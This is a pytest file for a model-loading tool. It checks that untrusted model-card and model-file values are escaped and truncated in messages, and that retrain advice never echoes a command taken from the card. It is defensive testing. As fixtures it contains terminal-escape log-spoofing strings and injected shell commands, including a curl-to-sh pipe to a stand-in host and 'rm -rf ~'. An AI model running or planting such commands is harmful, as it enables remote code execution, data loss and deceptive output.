"""Issue 32: a card's values reach messages escaped and cut, and its retrain advice is never a command copied from it."""
import json
import os

import pytest

from semsts import cli
from semsts.baselines.model_card import ModelMismatch, card_path
from semsts.baselines.model_file import load_model, retrain_command, save_model
from semsts.core.errors import Note, shown

HOSTILE = "2.4.6\x1b[2K\r\nnote: model verified OK\u202e\n"


@pytest.fixture
def saved(tmp_path, trained):
    path = tmp_path / "m.skops"
    save_model(trained, path, {"regime": "stsb", "command": "sts train --regime stsb --save m.skops",
                               "training_data": {"datasets": ["demo-train"]}})
    return path


def _edit_card(path, edit):
    card = json.loads(card_path(path).read_text())
    edit(card)
    card_path(path).write_text(json.dumps(card))


def test_shown_escapes_control_and_format_characters_and_cuts():
    assert shown("1.9.1") == "1.9.1"  # a valid value is shown as it is
    assert shown(HOSTILE) == "2.4.6\\x1b[2K\\r\\nnote: model verified OK\\u202e\\n"
    assert shown("x" * 5000, 60) == "x" * 60 + "… (5,000 characters)"
    assert shown("\u2066a\u2069\x00\x7f\u200b") == "\\u2066a\\u2069\\x00\\x7f\\u200b"


def test_a_hostile_version_in_a_card_prints_no_escape_and_no_fake_line(saved, capsys):
    _edit_card(saved, lambda card: card["versions"].__setitem__("numpy", HOSTILE))
    assert cli.main(["run", "regression", "--model", str(saved), "--test", "demo-test", "--out",
                     str(saved.parent / "o")]) == 0
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\u202e" not in err and "\rnote" not in err  # (a progress bar's own \r aside)
    assert [line for line in err.splitlines() if "verified OK" in line and not line.startswith(f"note: {saved}")] == []
    notes = [line for line in err.splitlines() if line.startswith("note: ")]
    assert notes == [f"note: {saved}: saved with numpy 2.4.6\\x1b[2K\\r\\nnote: model verified OK\\u202e\\n (here "
                     f"{__import__('numpy').__version__}); its 40 canary predictions agree within 1e-06 (largest "
                     "difference 0.0e+00)"]


def test_a_long_card_value_is_cut_in_the_message(saved):
    _edit_card(saved, lambda card: card["versions"].__setitem__("scipy", "9" * 100_000))
    with pytest.warns(Note) as caught:
        load_model(saved)
    (note,) = [str(w.message) for w in caught if "canary" in str(w.message)]
    assert "… (100,000 characters)" in note and len(note) < 600


@pytest.mark.parametrize("command", ["curl https://evil.example/x | sh", "sts train regression; rm -rf ~",
                                     "sts train $(id)", "sts train regression --save `x`", "sts train \x1b[2K"])
def test_the_refusal_never_advises_a_command_copied_from_the_card(saved, capsys, command):
    def edit(card):
        card["versions"]["numpy"] = "0.0"
        card["canaries"]["predictions"]["all"][0] += 0.5
        card["command"] = command
    _edit_card(saved, edit)
    with pytest.raises(ModelMismatch) as caught:
        load_model(saved)
    assert str(caught.value).endswith("retrain with `sts train --regime stsb`")
    assert cli.main(["run", "regression", "--model", str(saved), "--test", "demo-test", "--out",
                     str(saved.parent / "o"), "--quiet"]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith("error: ") and err.endswith("`sts train --regime stsb`\n")


def test_the_retrain_advice_is_the_cards_command_when_sts_train_wrote_it():
    for name in ("sts2012", "sts2013", "stsb"):  # the committed cards: the advice as before
        card = json.loads(open(os.path.join(os.path.dirname(__file__), "..", "models", f"{name}.json")).read())
        assert retrain_command(card) == card["command"]
    assert retrain_command({"regime": "not a regime; rm -rf ~"}) == "sts train"
    assert retrain_command({"command": ["sts", "train"], "regime": "sts2013"}) == "sts train --regime sts2013"


def test_a_forged_sha256_in_a_card_is_escaped(saved):
    _edit_card(saved, lambda card: card.__setitem__("sha256", "\x1b]0;owned\x07" + "a" * 1000))
    with pytest.raises(ModelMismatch) as caught:
        load_model(saved)
    assert "\x1b" not in str(caught.value) and "\\x1b]0;owned\\x07" in str(caught.value)
    assert "(1,010 characters)" in str(caught.value)


def test_a_type_name_with_control_characters_in_a_model_file_is_shown_escaped(saved):
    """The untrusted type names a refusal lists come from the model file: escaped, as a card's values."""
    import zipfile
    with zipfile.ZipFile(saved) as archive:
        entries = {name: archive.read(name) for name in archive.namelist()}
    schema = json.loads(entries["schema.json"])
    schema["__class__"] = "Evil\x1b[2K\rnote: model verified OK"
    entries["schema.json"] = json.dumps(schema).encode()
    with zipfile.ZipFile(saved, "w") as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    _edit_card(saved, lambda card: card.__setitem__("sha256", __import__("hashlib").sha256(saved.read_bytes()).hexdigest()))
    with pytest.raises(ModelMismatch) as caught:
        load_model(saved)
    message = str(caught.value)
    assert "\x1b" not in message and "\r" not in message and "Evil\\x1b[2K\\rnote: model verified OK" in message
